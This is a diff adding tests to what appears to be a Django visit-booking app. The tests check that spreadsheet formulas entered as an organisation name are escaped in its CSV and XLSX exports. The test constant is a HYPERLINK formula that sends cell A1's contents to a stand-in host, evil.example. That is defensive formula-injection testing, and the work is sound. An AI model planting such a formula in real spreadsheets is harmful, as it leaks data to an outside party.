@@ -268,3 +268,30 @@ def test_request_list_exports_as_csv(client, reception, slot):
         b"".join(response.streaming_content).decode("utf-8-sig") if response.streaming else response.content.decode()
     )
     assert "导出单位" in content and slot.hall.name in content
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?a="&A1,"x")'
+
+
+def test_a_formula_typed_as_work_unit_is_inert_in_the_request_list_csv(client, reception, slot):
+    VisitRequestFactory(slot=slot, organisation=FORMULA, status=Status.APPROVED)
+    response = client.get("/admin/visits_requests/", {"export": "csv"})
+    data = b"".join(response.streaming_content)
+    assert data.startswith(b"\xef\xbb\xbf")  # a BOM, so that Excel reads the Chinese headings
+    header, row = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+    cell = row[header.index("工作单位")]
+    assert cell == "'" + FORMULA and not cell.startswith("=")
+
+
+def test_a_formula_typed_as_work_unit_is_inert_in_the_roster_xlsx(client, reception, slot):
+    from college.visits import services
+
+    from .factories import VisitDetailsFactory
+
+    visit, _ = services.request_visit(slot.pk, VisitDetailsFactory(group_size=2, organisation=FORMULA))
+    response = client.get(f"/admin/visits/request/{visit.pk}/roster.xlsx")
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = [row[2] for row in sheet.iter_rows(min_row=2)]
+    assert len(cells) == 2
+    for cell in cells:
+        assert cell.data_type == "s" and cell.value == "'" + FORMULA
